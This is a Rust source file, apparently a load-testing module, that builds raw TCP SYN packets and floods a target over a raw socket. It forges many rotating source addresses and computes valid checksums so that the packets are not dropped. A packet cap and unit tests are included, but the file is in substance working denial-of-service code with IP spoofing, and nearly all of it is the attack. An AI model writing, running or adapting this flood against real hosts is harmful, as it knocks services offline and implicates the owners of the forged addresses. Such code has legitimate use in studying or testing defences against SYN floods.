//! A bounded flood of TCP SYNs over a raw socket, from one source or from many forged ones.
//!
//! IPv4 only: the kernel lets a raw socket write the source address of IPv4, and that is what a flood needs.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// More than any test needs; a mistyped number must not take the machine down.
const MOST_PACKETS: u64 = 5_000_000;
/// Packets between two looks at the clock.
const BATCH_PACKETS: u64 = 32;

/// The socket's user writes the IP header, the kernel fills in its length, id and checksum (raw(7)).
const IPPROTO_RAW: i32 = 255;

const IP_HEADER_BYTES: usize = 20;
const TCP_HEADER_BYTES: usize = 20;
const PACKET_BYTES: usize = IP_HEADER_BYTES + TCP_HEADER_BYTES;

/// What to send, and how much of it.
#[derive(Clone, Debug)]
pub struct Flood {
    pub target: SocketAddrV4,
    /// The first source address; the others follow it.
    pub first_source: Ipv4Addr,
    pub sources: u32,
    pub packets_per_second: u64,
    pub duration: Duration,
}

impl Flood {
    /// Sends and returns how many packets left. Needs CAP_NET_RAW.
    pub fn run(&self) -> Result<u64> {
        let most = self.packets_per_second.saturating_mul(self.duration.as_secs().max(1));
        ensure!(most <= MOST_PACKETS, "{most} packets asked for; the flood stops at {MOST_PACKETS}");
        ensure!(self.sources > 0 && self.packets_per_second > 0, "a flood needs sources and packets");
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))
            .context("opening a raw socket; a flood needs root")?;
        let target = SockAddr::from(SocketAddr::V4(self.target));
        let start = Instant::now();
        let (mut tried, mut sent) = (0_u64, 0_u64);
        while start.elapsed() < self.duration {
            let due = start.elapsed().as_micros() as u64 * self.packets_per_second / 1_000_000;
            if tried >= due {
                thread::sleep(Duration::from_micros(200));
                continue;
            }
            for _ in 0..BATCH_PACKETS.min(due - tried) {
                // A full queue refuses a packet now and then; what counts is what left.
                sent += u64::from(socket.send_to(&self.packet(tried), &target).is_ok());
                tried += 1;
            }
        }
        Ok(sent)
    }

    /// The `number`th SYN: sources take turns, and each uses its ports in turn.
    fn packet(&self, number: u64) -> [u8; PACKET_BYTES] {
        let sources = u64::from(self.sources);
        let source = Ipv4Addr::from_bits(self.first_source.to_bits().wrapping_add((number % sources) as u32));
        let source_port = 1024 + (number / sources % 60_000) as u16;
        syn(SocketAddrV4::new(source, source_port), self.target, number as u32)
    }
}

fn syn(source: SocketAddrV4, target: SocketAddrV4, sequence: u32) -> [u8; PACKET_BYTES] {
    const VERSION_4_HEADER_OF_5_WORDS: u8 = 0x45;
    const TCP: u8 = 6;
    const SYN: u8 = 0x02;
    let mut packet = [0; PACKET_BYTES];
    let (ip, tcp) = packet.split_at_mut(IP_HEADER_BYTES);
    ip[0] = VERSION_4_HEADER_OF_5_WORDS;
    ip[2..4].copy_from_slice(&(PACKET_BYTES as u16).to_be_bytes());
    ip[8] = 64;
    ip[9] = TCP;
    ip[12..16].copy_from_slice(&source.ip().octets());
    ip[16..20].copy_from_slice(&target.ip().octets());
    tcp[0..2].copy_from_slice(&source.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    tcp[12] = (TCP_HEADER_BYTES as u8 / 4) << 4;
    tcp[13] = SYN;
    tcp[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
    let checksum = tcp_checksum(&ip[12..20], tcp);
    tcp[16..18].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// Over the pseudo header (RFC 9293 section 3.1) and the segment. A wrong one would let the kernel drop the SYN before
/// it costs anything, and the flood would be none.
fn tcp_checksum(addresses: &[u8], segment: &[u8]) -> u16 {
    let words = addresses.chunks(2).chain(segment.chunks(2));
    let sum: u32 = words.map(|word| u32::from(u16::from_be_bytes([word[0], word[1]]))).sum();
    let mut sum = sum + 6 + segment.len() as u32;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flood(sources: u32) -> Flood {
        Flood {
            target: "198.51.100.10:443".parse().unwrap(),
            first_source: Ipv4Addr::new(10, 77, 128, 255),
            sources,
            packets_per_second: 1000,
            duration: Duration::from_secs(1),
        }
    }

    #[test]
    fn sources_take_turns_and_wrap_round() {
        let source = |number| flood(3).packet(number)[12..16].to_vec();
        assert_eq!(source(0), [10, 77, 128, 255]);
        assert_eq!(source(1), [10, 77, 129, 0]);
        assert_eq!(source(2), [10, 77, 129, 1]);
        assert_eq!(source(3), source(0));
    }

    #[test]
    fn the_checksum_of_the_segment_with_its_checksum_is_zero() {
        let packet = flood(1).packet(7);
        assert_eq!(tcp_checksum(&packet[12..20], &packet[20..]), 0);
    }

    #[test]
    fn a_flood_beyond_the_bound_is_refused_before_a_packet_leaves() {
        let error = Flood { packets_per_second: 10_000_000, ..flood(1) }.run().unwrap_err();
        assert_eq!(error.to_string(), "10000000 packets asked for; the flood stops at 5000000");
    }
}
